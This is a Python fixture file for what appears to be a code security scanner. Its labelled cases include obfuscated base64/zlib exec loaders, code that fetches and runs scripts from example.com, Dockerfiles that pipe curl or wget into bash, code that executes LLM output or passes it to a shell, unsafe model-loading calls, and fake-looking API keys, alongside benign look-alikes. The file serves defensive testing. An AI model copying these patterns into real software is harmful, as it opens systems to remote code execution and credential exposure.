"""Lines of code, deployment files and secrets that give others more than was meant, and ones that only look like it."""
import base64
import zlib

from case import Case

# Put together here, so that this file holds none itself.
OPENAI_KEY = "sk-" + "proj-" + "kT7vQ2mX9bLw4RzN8cYf3JhD6gPs1AeUo5iVtB0n_Kq-WxEy2Mr7"
AWS_KEY = "AKIA" + "QYLPMN5HHHFPZAM2"


def python(name, technique, expected, *lines):
    return Case(name + ".py", technique, expected, ("\n".join(lines) + "\n").encode())


def attacks():
    payload = base64.b64encode(b"import os; os.system('id')").decode()
    packed = base64.b64encode(zlib.compress(b"import os; os.system('id')")).decode()
    yield python("hidden_base64", "hidden code", "high", "import base64", f"exec(base64.b64decode('{payload}'))")
    yield python("hidden_zlib", "hidden code", "high", "import zlib as z, base64 as b", f"k = '{packed}'",
                 "exec(compile(z.decompress(b.b64decode(k)), '<s>', 'exec'))")
    yield python("hidden_import", "hidden code", "high",
                 f"__import__('builtins').exec(__import__('base64').b64decode('{payload}'))")
    yield python("hidden_getattr", "hidden code", "high", "import builtins, base64",
                 f"getattr(builtins, 'ex' + 'ec')(base64.b64decode('{payload}'))")
    yield python("hidden_alias", "hidden code", "high", "from base64 import b64decode as d", "r = exec",
                 f"r(d('{payload}'))")
    yield python("hidden_unicode", "hidden code", "high", "import base64",
                 f"\U0001d41e\U0001d431\U0001d41e\U0001d41c(base64.b64decode('{payload}'))")
    yield python("hidden_allowed", "hidden code", "high", "import base64",
                 f"exec(base64.b64decode('{payload}'))  # sallyport:allow")
    yield python("hidden_shell", "hidden code", "high", "import os, base64",
                 f"os.system(base64.b64decode('{payload}').decode())")
    yield python("fetched", "fetched code", "high", "import requests", "exec(requests.get('https://example.com/a.py').text)")
    yield python("fetched_urllib", "fetched code", "high", "from urllib.request import urlopen as u",
                 "exec(u('https://example.com/a.py').read().decode())")
    yield python("odd_encoding", "hidden code", "medium", "# -*- coding: utf-7 -*-", "x = 1")


def model_output():
    ask = ["from openai import OpenAI", "client = OpenAI()",
           "reply = client.chat.completions.create(model='m', messages=[])"]
    yield python("exec_answer", "model output run", "high", *ask, "exec(reply.choices[0].message.content)")
    yield python("eval_answer_dict", "model output run", "high", "def f(reply):",
                 "    return eval(reply['choices'][0]['message']['content'])")
    yield python("exec_by_function", "model output run", "high", *ask, "def answer():",
                 "    return reply.choices[0].message.content", "exec(answer())")
    yield python("exec_extracted", "model output run", "high", "import re", *ask,
                 "code = re.search(r'```(.*)```', reply.choices[0].message.content, re.S).group(1)", "exec(code.strip())")
    yield python("exec_stream", "model output run", "high", *ask, "text = ''", "for part in reply:",
                 "    text += part.choices[0].delta.content", "exec(text)")
    yield python("shell_answer", "model output to a shell", "high", "import os", *ask,
                 "os.system(f'bash -c {reply.choices[0].message.content}')")
    yield python("shell_true", "model output to a shell", "high", "import subprocess, anthropic",
                 "m = anthropic.Anthropic().messages.create(model='m')",
                 "subprocess.run(m.content[0].text, shell=True)")
    yield python("interpreter", "model output to a shell", "high", "import subprocess, sys, litellm",
                 "t = litellm.completion(model='m').choices[0].message.content",
                 "subprocess.run([sys.executable, '-c', t])")
    yield python("langchain", "model output run", "high", "from langchain_openai import ChatOpenAI",
                 "chain = prompt | ChatOpenAI()", "exec(chain.invoke('x').content)")
    yield python("transformers_pipeline", "model output run", "high", "from transformers import pipeline",
                 "ask = pipeline('text-generation', 'org/model', revision='0')", "eval(ask('x')[0]['generated_text'])")


def weaknesses():
    rows = [
        ("torch_load", "unsafe load", "medium", "import torch as t\nt.load('m.pt', map_location='cpu')"),
        ("torch_star", "unsafe load", "medium", "from torch import *\nload('m.pt')"),
        ("pickle_load", "unsafe load", "medium", "from pickle import load as l\nl(f)"),
        ("joblib_load", "unsafe load", "medium", "import joblib\njoblib.load('m')"),
        ("numpy_pickle", "unsafe load", "medium", "import numpy as np\nnp.load('a.npy', allow_pickle=True)"),
        ("yaml_load", "unsafe load", "medium", "import yaml\nyaml.load(f, Loader=yaml.Loader)"),
        ("marshal", "unsafe load", "medium", "import marshal\nmarshal.loads(b)"),
        ("keras", "unsafe load", "medium", "import keras\nkeras.models.load_model('m.keras', safe_mode=False)"),
        ("faiss", "unsafe load", "medium",
         "from langchain_community.vectorstores import FAISS\nFAISS.load_local(d, e, allow_dangerous_deserialization=True)"),
        ("remote_code", "remote code", "medium",
         "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)"),
        ("remote_code_kwargs", "remote code", "medium",
         "from transformers import AutoModel\nk = dict(trust_remote_code=True)\nAutoModel.from_pretrained('a/b', **k)"),
        ("verify_false", "no certificate check", "medium", "import requests\nrequests.get(u, verify=False)"),
        ("tool", "model runs code", "medium",
         "from langchain_experimental.tools import PythonREPLTool\nPythonREPLTool()"),
        ("template", "template run", "medium", "import jinja2\njinja2.Template(config['chat_template']).render()"),
    ]
    for name, technique, expected, text in rows:
        yield python(name, technique, expected, text)


def deployment():
    yield Case("Dockerfile", "fetched script", "medium",
               b"FROM python:3.12\nRUN curl -fsSL https://example.com/i.sh \\\n  | bash\nUSER app\n")
    yield Case("Dockerfile", "fetched script", "medium",
               b"FROM python:3.12\nRUN <<EOF\nset -e\nwget -qO- https://example.com/i.sh | sh\nEOF\nUSER app\n")
    yield Case("Dockerfile", "secret in image", "medium",
               b"FROM python:3.12\nENV DB_PASSWORD=hunter2hunter2\nUSER app\n")
    yield Case("deploy.yaml", "privileged container", "medium",
               b"apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n      image: a:1\n"
               b"      securityContext: {privileged: true}\n")
    yield Case("requirements.txt", "dependency confusion", "medium",
               b"--extra-index-url https://pypi.example.com/simple\ninternal-lib==1.0\n")
    yield Case("requirements.txt", "insecure index", "medium", b"-i http://pypi.example.com/simple\na==1.0\n")


def secrets():
    yield Case("settings.env", "secret", "high", f"OPENAI_API_KEY={OPENAI_KEY}\n".encode())
    yield python("key_in_code", "secret", "high", f"client = Client(api_key='{OPENAI_KEY}')")
    yield Case("credentials.ini", "secret", "high", f"[default]\naws_access_key_id = {AWS_KEY}\n".encode())


def benign():
    rows = [
        ("evaluate", "def evaluate(model):\n    model.eval()\n    return evaluate_all(model)\n\nmodel.eval()"),
        ("quotes_eval", "RULES = ['eval(', 'exec(base64.b64decode(', 'os.system']\nprint('never exec(answer)')"),
        ("docstring", '"""Never write exec(reply.choices[0].message.content)."""\n# exec(base64.b64decode(x))\n'),
        ("own_eval", "def eval(tree):\n    return tree.value\n\neval(reply.choices[0].message.content)"),
        ("weights_only", "import torch\ntorch.load('m.pt', weights_only=True)"),
        ("safe_yaml", "import yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.SafeLoader)"),
        ("base64_data", "import base64\nlogo = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\nprint(len(logo))"),
        ("print_answer", "from openai import OpenAI\nr = OpenAI().chat.completions.create(model='m')\n"
                         "print(r.choices[0].message.content)"),
        ("answer_number", "n = int(reply.choices[0].message.content)\nexec(f'x = {n}')"),
        ("answer_argument", "import subprocess\nsubprocess.run(['espeak', reply.choices[0].message.content])"),
        ("version_file", "exec(open('version.py').read())\nsetup(version=__version__)"),
        ("exec_constant", "ns = {}\nexec('def f(): return 1', ns)"),
        ("literal_eval", "import ast\nast.literal_eval(reply.choices[0].message.content)"),
        ("shell_constant", "import subprocess\nsubprocess.run('ls -l | wc -l', shell=True)"),
        ("subprocess_list", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'])"),
        ("pinned", "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', revision='0' * 40)"),
        ("sandbox", "from jinja2.sandbox import ImmutableSandboxedEnvironment as E\nE().from_string(config['chat_template'])"),
        ("compile_regex", "import re\nre.compile('exec|eval').search(reply.choices[0].message.content)"),
        ("torch_compile", "import torch\nmodel = torch.compile(model)\nmodel.exec(reply.choices[0].message.content)"),
        ("pandas_eval", "df.eval('a + b')\ndf.query('a > 1')"),
    ]
    for name, text in rows:
        yield python("benign_" + name, "code that only looks risky", "benign", text)
    yield Case("benign.env", "no secret", "benign",
               b"OPENAI_API_KEY=sk-your-key-here\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\nTOKEN=${TOKEN}\n")
    yield Case("benign_hashes.txt", "no secret", "benign",
               b"sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\n"
               b"550e8400-e29b-41d4-a716-446655440000\ncommit 3ccb612573e2511ab5cad7dafecd838605c80cda\n")
    yield Case("requirements.txt", "pinned packages", "benign",
               b"torch==2.6.0 --hash=sha256:" + b"a" * 64 + b"\nnumpy==2.1.0\n")
    yield Case("Dockerfile", "a good image", "benign",
               b"FROM python:3.12@sha256:" + b"a" * 64 + b"\nRUN curl -fsSLo x https://example.com/x && sha256sum -c x.sum\n"
               b"USER 1000\n")
    yield Case("deploy.yaml", "a good pod", "benign",
               b"apiVersion: v1\nkind: Pod\nspec:\n  automountServiceAccountToken: false\n  containers:\n    - name: a\n"
               b"      image: a:1\n      securityContext: {runAsNonRoot: true}\n      resources: {limits: {memory: 1Gi}}\n")


def cases():
    for group in (attacks, model_output, weaknesses, deployment, secrets, benign):
        yield from group()
